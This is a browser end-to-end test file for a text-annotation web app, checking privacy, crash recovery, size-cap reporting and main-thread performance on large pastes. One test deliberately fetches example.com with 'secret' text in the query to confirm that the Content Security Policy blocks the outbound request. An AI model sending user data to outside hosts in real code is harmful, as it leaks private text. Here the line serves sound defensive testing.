// End-to-end reliability and privacy: CSP blocks outbound requests, no request while annotating,
// a wasm trap / crashed / hung worker is survived with the text kept, the size cap says what it
// cut, and a 1 MB paste paints its first highlights without a long main-thread task.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { sharedBrowser, open, annotated, reannotate, paste } from './harness.mjs';

const env = sharedBrowser();

test('CSP blocks a deliberate fetch to another origin (no request leaves)', async () => {
  const { page, context, requests } = await open(env.browser, env.server.url);
  await annotated(page);
  const outcome = await page.evaluate(async () => {
    const seen = new Promise((r) => document.addEventListener('securitypolicyviolation', (e) => r(e.violatedDirective), { once: true }));
    let fetched;
    try { await fetch('https://example.com/collect?text=secret'); fetched = 'sent'; } catch (e) { fetched = 'blocked'; }
    return { fetched, directive: await seen };
  });
  assert.deepEqual(outcome, { fetched: 'blocked', directive: 'connect-src' });
  assert.ok(!requests.some((u) => u.includes('example.com')), 'the request never reached the network layer');
  await context.close();
});

test('zero network requests while annotating, nothing written to storage', async () => {
  const { page, context, requests } = await open(env.browser, env.server.url);
  await annotated(page);
  const n = requests.length;
  await reannotate(page, () => paste(page, '#article', { text: 'Iran said on Monday that talks with the United States in Oman would go ahead, officials said.' }));
  await page.click('#tab-claims');
  await page.keyboard.press('n');
  assert.deepEqual(requests.slice(n), [], 'no request after load');
  const stored = await page.evaluate(() => localStorage.length + sessionStorage.length + document.cookie.length);
  assert.equal(stored, 0);
  await context.close();
});

for (const kind of ['trap', 'crash']) {
  test(`a ${kind} in the worker: it is restarted, an error is shown, the text is kept`, async () => {
    const { page, context } = await open(env.browser, env.server.url, { query: '?debug' });
    await annotated(page);
    const text = await page.inputValue('#input');
    await page.evaluate((k) => window.ledeDebug.crash(k), kind);
    await page.waitForSelector('body[data-state="error"]');
    assert.match(await page.textContent('#status'), /crashed.*Your text is kept/);
    assert.equal(await page.inputValue('#input'), text, 'the text is kept');
    await reannotate(page, () => page.click('#analyse'));
    assert.match(await page.textContent('#status'), /\d+ entities/, 'the restarted worker annotates');
    await context.close();
  });
}

test('new text cancels a running (hung) job', async () => {
  const { page, context } = await open(env.browser, env.server.url, { query: '?debug' });
  await annotated(page);
  await page.evaluate(() => window.ledeDebug.crash('hang'));
  await page.waitForSelector('body[data-state="busy"]');
  await reannotate(page, () => paste(page, '#article', { text: 'Oman said the talks would go ahead.' }));
  assert.equal(await page.textContent('#article'), 'Oman said the talks would go ahead.');
  await context.close();
});

test('over the size cap: annotates the head, says so, keeps the rest in the box', async () => {
  const { page, context } = await open(env.browser, env.server.url, { query: '?debug&cap=2000' });
  await annotated(page);
  const para = 'Iran said talks in Oman would go ahead, according to officials.';
  const text = Array.from({ length: 60 }, () => para).join('\n\n');
  await reannotate(page, () => paste(page, '#article', { text }));
  const shown = await page.textContent('#article');
  assert.ok(shown.length <= 2000 && shown.length > 1500, `annotated ${shown.length} units`);
  assert.ok(text.startsWith(shown.trimEnd()));
  const note = await page.textContent('#note');
  assert.match(note, /left the last [\d,]+ characters out\. They are kept: open Edit text to see them in the input box\./);
  await page.click('#edit');
  assert.equal(await page.inputValue('#input'), text, 'nothing silently dropped');
  await context.close();
});

const JS_EVENTS = new Set(['FunctionCall', 'TimerFire', 'FireAnimationFrame', 'EventDispatch', 'v8.callFunction', 'RunMicrotasks', 'EvaluateScript', 'v8.run']);

/**
 * Main-thread work of the page's renderer from a Chrome trace, in CPU ms (`tdur`: excludes the
 * time the OS gave the CPU to other processes): {tasks: [cpu of each task], js: [cpu of each
 * script event]}.
 */
function rendererWork(traceBuffer) {
  const events = JSON.parse(traceBuffer.toString()).traceEvents;
  const mains = new Set(events.filter((e) => e.name === 'thread_name' && e.args?.name === 'CrRendererMain').map((e) => `${e.pid}:${e.tid}`));
  const mine = events.filter((e) => e.ph === 'X' && mains.has(`${e.pid}:${e.tid}`));
  const cpu = (e) => (e.tdur ?? e.dur ?? 0) / 1000;
  return {
    tasks: mine.filter((e) => e.name === 'RunTask' || e.name === 'ThreadControllerImpl::RunTask').map(cpu),
    js: mine.filter((e) => JS_EVENTS.has(e.name)).map(cpu),
    // the longest script, named (event, function, script and line) for a failure message
    longestJs: mine.filter((e) => JS_EVENTS.has(e.name)).reduce((a, e) => (a && cpu(a) >= cpu(e) ? a : e), null),
  };
}

test('a 1 MB paste: first highlights appear, no script holds the main thread 50 ms', async (t) => {
  const { page, context } = await open(env.browser, env.server.url, { query: '?debug' });
  await annotated(page);
  const seed = await page.inputValue('#input');
  const big = Array.from({ length: Math.ceil(1_048_576 / (seed.length + 2)) }, () => seed).join('\n\n');
  assert.ok(big.length >= 1_048_576);
  // the clipboard is filled before the paste, as the browser does for a real one
  await page.evaluate((text) => { window.__dt = new DataTransfer(); window.__dt.setData('text/plain', text); }, big);
  // Measured from a Chrome trace: each main-thread task's CPU time (`tdur`), which includes GC,
  // style and layout but not the time the OS gave the CPU to other processes (this machine is
  // shared; wall-clock long tasks are reported alongside, for information).
  await env.browser.startTracing(page, { categories: ['toplevel', 'devtools.timeline', 'disabled-by-default-devtools.timeline'] });
  const t0 = await page.evaluate(() => {
    document.body.dataset.state = 'test-waiting';
    delete document.body.dataset.highlights;
    const t = performance.now();
    document.querySelector('#article').dispatchEvent(new ClipboardEvent('paste', { clipboardData: window.__dt, bubbles: true, cancelable: true }));
    return t;
  });
  await page.waitForFunction(() => document.body.dataset.highlights === 'shown' && document.querySelector('#article mark') !== null, null, { timeout: 60000, polling: 20 });
  const firstAt = await page.evaluate(() => performance.now());
  await annotated(page, 120000);
  const { tasks, js, longestJs } = rendererWork(await env.browser.stopTracing());
  assert.ok(tasks.length > 20 && js.length > 20, `the trace holds the page's tasks (${tasks.length}) and scripts (${js.length})`);
  const worstTask = Math.max(...tasks);
  const worstJs = Math.max(...js);
  const data = longestJs?.args?.data ?? {};
  const where = `${longestJs?.name} ${data.functionName ?? ''} ${data.url ?? data.scriptName ?? ''}:${data.lineNumber ?? ''}`;
  t.diagnostic(`1 MB: first highlights after ${Math.round(firstAt - t0)} ms; ${tasks.length} main-thread tasks; longest script ${worstJs.toFixed(1)} ms CPU (${where}), longest task (script + style + layout + paint) ${worstTask.toFixed(1)} ms CPU`);
  // The page's own code works in ~5 ms slices: no script may hold the thread for 50 ms. Whole
  // frames (style, layout, paint of a newly marked chunk) are bounded more loosely, since their
  // cost on this shared 2-core machine swings with the load.
  assert.ok(worstJs < 50, `a script ran ${worstJs.toFixed(1)} ms of CPU (${where})`);
  assert.ok(worstTask < 100, `a main-thread task took ${worstTask.toFixed(1)} ms of CPU`);
  assert.equal(await page.evaluate(() => document.getElementById('article').textContent === window.ledeDebug.wire().text), true, 'all of it is shown');
  assert.ok(await page.evaluate(() => window.ledeDebug.wire().text.length) >= big.length);
  await page.click('#edit');
  assert.equal(await page.evaluate(() => document.getElementById('input').value.length), big.length, 'the box gets the text when opened');
  // blocks get their marks as they come near the viewport: jump to the end
  assert.ok(await page.$$eval('#article .chunk', (cs) => cs.length) > 10, 'laid down in chunks');
  // only plain chunks near the viewport carry highlight ranges (every live Range costs Chrome
  // work on each DOM change and each frame): a few hundred, not one per annotated segment
  const ranges = () => page.evaluate(() => [...CSS.highlights.values()].reduce((n, h) => n + h.size, 0));
  // the chunks whose text some highlight range is in (read here and in a wait below)
  await page.evaluate(() => {
    window.rangedChunks = () => {
      const chunks = new Set();
      for (const h of CSS.highlights.values()) for (const r of h) chunks.add(Number(r.startContainer.parentElement?.closest('.chunk')?.dataset.c));
      return [...chunks];
    };
  });
  const mentions = await page.evaluate(() => window.ledeDebug.wire().mentions.length);
  const nearTop = await ranges();
  assert.ok(nearTop > 0 && nearTop < mentions / 4, `${nearTop} ranges live for ${mentions} mentions`);
  const topChunks = await page.evaluate(() => window.rangedChunks());
  await page.evaluate(() => document.querySelector('#article .chunk:last-child').scrollIntoView());
  await page.waitForSelector('#article .chunk:last-child[data-full]', { state: 'attached' });
  assert.ok(await page.$eval('#article .chunk:last-child', (c) => c.querySelectorAll('mark').length > 0), 'marks at the end too');
  assert.ok(await page.$$eval('#article .chunk:not([data-full])', (cs) => cs.length) > 0, 'far chunks are still plain text');
  // the chunks left behind at the top drop their ranges; plain chunks near the end take some
  const last = await page.$$eval('#article .chunk', (cs) => cs.length - 1);
  await page.waitForFunction(([top, last]) => {
    const chunks = window.rangedChunks();
    return !top.some((c) => chunks.includes(c)) && chunks.some((c) => c > last - 20);
  }, [topChunks, last], { polling: 100, timeout: 10000 });
  const nearEnd = await ranges();
  assert.ok(nearEnd > 0 && nearEnd < mentions / 4, `${nearEnd} ranges live at the end`);
  // every panel item was built before the page said it had annotated (in slices)
  const edits = await page.evaluate(() => window.ledeDebug.wire().edits.length);
  assert.ok(edits > 1000);
  assert.equal(await page.$$eval('#panel-cleaning ol.edits > li', (li) => li.length), edits);
  // a side with hundreds of claims shows a few links and a button for the rest; evidence
  // sentences are built when their list is first opened
  const side = await page.evaluate(() => {
    const p = document.querySelector('#panel-disputes .links:has(.more)');
    const d = window.ledeDebug.wire().disputes[Number(p.closest('[data-dispute]').dataset.dispute)];
    const all = d.sides.find((s) => s.claims.length > 12).claims.length;
    const shown = p.querySelectorAll('button').length - 1;
    p.id = 'long-side';
    p.querySelector('.more').click();
    return { all, shown };
  });
  assert.ok(side.shown < side.all && side.all > 100, JSON.stringify(side));
  await page.waitForFunction((n) => document.querySelectorAll('#long-side button').length === n && !document.querySelector('#long-side .more'), side.all, { polling: 50 });
  const evidence = await page.evaluate(() => {
    const details = document.querySelector('#panel-disputes details');
    const before = details.querySelectorAll('li').length;
    details.open = true;
    return { before, want: Number(details.querySelector('summary').textContent.match(/\d+/)[0]) };
  });
  assert.equal(evidence.before, 0, 'a closed evidence list is not built');
  await page.waitForFunction((n) => document.querySelector('#panel-disputes details').querySelectorAll('li').length === n, evidence.want, { polling: 50 });
  await context.close();
});
